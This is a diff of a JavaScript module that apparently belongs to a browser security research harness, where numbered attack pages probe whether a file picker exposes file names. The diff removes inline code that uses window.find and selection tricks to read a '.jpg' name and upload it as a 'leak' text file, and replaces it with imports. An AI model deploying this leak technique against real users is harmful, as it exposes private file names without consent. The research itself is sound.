@@ -7,16 +7,10 @@
 // Chromium draws (attack 48's findsel). A name learnt goes up as a text note
 // "leak-….txt". Served by server.mjs at /attack50-…; tests: attack50.test.mjs.
 
-import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
+import { findSelection, leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once50) { window.once50 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
 
-/** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
-const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
-        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
-        const got = String(sel); note('${why} ' + JSON.stringify(got));
-        if (/jpg/i.test(got)) leak(got, '${why}');`;
+const findsel = (why) => findSelection(why);
 
 /**
  * The label (i and the deep span) is first put CONNECTED in a contenteditable div (a wrapped insertion: i is empty,
